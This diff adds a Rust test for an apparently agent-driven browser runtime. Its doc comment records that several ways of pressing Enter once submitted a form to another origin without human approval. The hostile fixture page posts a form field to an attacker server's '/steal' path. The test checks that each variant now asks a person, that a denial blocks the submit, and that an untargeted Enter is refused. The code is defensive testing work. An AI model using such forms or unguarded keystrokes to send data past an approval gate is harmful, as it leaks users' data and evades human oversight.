@@ -751,3 +751,136 @@ async fn allowing_a_site_grants_exactly_the_origin_the_approval_named() {
         "nothing reached the third origin"
     );
 }
+
+/// Issue 29: every way to press Enter in a form is judged like clicking its submitter. `press
+/// Return`, a line break in typed text and `key_down Enter` submitted a form to another origin
+/// with no approval, where `press Enter` asked. Each now asks a person naming the form's
+/// destination, and once they decline nothing reaches it; an Enter `key_down` with no target
+/// (the key would go wherever the focus is) is refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn every_way_to_press_enter_in_a_form_is_judged_like_its_submit() {
+    let env = env("hostile-enter", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.server.html(
+        "/login.html",
+        format!(
+            r#"<!doctype html><title>Sign in</title>
+<form action="{evil}/steal" method=post><input name=q aria-label=Query value="my notes"><button>Go</button></form>"#
+        ),
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/login.html"))
+        .await
+        .unwrap();
+    crate::observe_until(&env.runtime, &env.session, "Query").await;
+    let ways: [(&str, Box<dyn Fn(&str, &str) -> serde_json::Value>); 5] = [
+        (
+            "press Return",
+            Box::new(
+                |f, r| serde_json::json!({"type": "press", "expected_frame_id": f, "target": {"kind": "element", "ref": r}, "key": "Return", "intent": "t"}),
+            ),
+        ),
+        (
+            "press enter",
+            Box::new(
+                |f, r| serde_json::json!({"type": "press", "expected_frame_id": f, "target": {"kind": "element", "ref": r}, "key": "Shift+enter", "intent": "t"}),
+            ),
+        ),
+        (
+            "type a line break",
+            Box::new(
+                |f, r| serde_json::json!({"type": "type", "expected_frame_id": f, "target": {"kind": "element", "ref": r}, "text": "ada\n", "intent": "t"}),
+            ),
+        ),
+        (
+            "type a carriage return",
+            Box::new(
+                |f, r| serde_json::json!({"type": "type", "expected_frame_id": f, "target": {"kind": "element", "ref": r}, "text": "ada\r", "intent": "t"}),
+            ),
+        ),
+        (
+            "key_down Enter",
+            Box::new(
+                |f, r| serde_json::json!({"type": "key_down", "expected_frame_id": f, "target": {"kind": "element", "ref": r}, "key": "Enter", "intent": "t"}),
+            ),
+        ),
+    ];
+    for (way, make) in &ways {
+        let o = env
+            .runtime
+            .observe(&env.session, None, &Default::default())
+            .await
+            .unwrap();
+        let field = o
+            .interactive_elements()
+            .iter()
+            .find(|e| e.name() == "Query")
+            .unwrap()
+            .element()
+            .as_str()
+            .to_owned();
+        let action =
+            protocol::validate_extended_action(&make(o.frame_id().as_str(), &field)).unwrap();
+        let outcome = env
+            .runtime
+            .act(
+                &env.session,
+                None,
+                &action,
+                &Default::default(),
+                Duration::ZERO,
+            )
+            .await;
+        let Err(RuntimeError::NeedsApproval { approval_id, .. }) = outcome else {
+            panic!("{way}: a form submit to another origin needs a person, got {outcome:?}")
+        };
+        let request = env
+            .runtime
+            .pending_approvals()
+            .into_iter()
+            .find(|r| r.approval_id == approval_id)
+            .unwrap();
+        assert_eq!(request.origin, evil, "{way}: {request:?}");
+        env.runtime
+            .resolve_approval(&approval_id, ApprovalDecision::Deny)
+            .unwrap();
+        let again = env
+            .runtime
+            .act(
+                &env.session,
+                None,
+                &action,
+                &Default::default(),
+                Duration::ZERO,
+            )
+            .await;
+        assert!(
+            matches!(&again, Err(e) if e.code() == ErrorCode::ApprovalDenied),
+            "{way}: {again:?}"
+        );
+    }
+    // Enter sent to whatever has focus: where it goes cannot be judged, so it is not sent.
+    let o = env
+        .runtime
+        .observe(&env.session, None, &Default::default())
+        .await
+        .unwrap();
+    let blind = protocol::validate_extended_action(&serde_json::json!({"type": "key_down", "expected_frame_id": o.frame_id().as_str(), "key": "Enter", "intent": "t"})).unwrap();
+    let refused = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &blind,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap_err();
+    assert_eq!(refused.code(), ErrorCode::InvalidAction, "{refused}");
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.is_empty(),
+        "nothing reached the attacker: {reached:?}"
+    );
+}
